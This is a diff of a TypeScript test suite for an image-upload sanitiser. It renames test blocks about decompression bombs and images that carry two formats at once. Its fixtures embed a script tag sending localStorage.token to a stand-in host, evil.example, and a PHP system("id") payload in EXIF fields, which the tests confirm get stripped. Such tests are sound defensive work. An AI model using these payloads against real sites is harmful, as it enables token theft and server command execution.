@@ -50,7 +50,7 @@ function png(width: number, height: number, { kind = GRAY, others = [] as Buffer
   ]);
 }
 
-describe('a decompression bomb', () => {
+describe('an oversized upload', () => {
   it.each([
     [2_147_483_647, 1],
     [1, 2_147_483_647],
@@ -114,11 +114,11 @@ describe('a decompression bomb', () => {
   });
 });
 
-describe('an upload in two formats at once:', () => {
+describe('an upload in two formats', () => {
   const SCRIPT = '<script>fetch("https://evil.example/"+localStorage.token)</script>';
 
   it.each(['jpeg', 'png', 'webp'] as const)(
-    'a %s with a script inside and after it is stored without the script',
+    'of a %s with a script inside and after it is stored without the script',
     async (format) => {
       const exif = { IFD0: { ImageDescription: SCRIPT, Artist: '<?php system("id") ?>' } };
       const bytes = await picture(64, 64).withExifMerge(exif).toFormat(format).toBuffer();
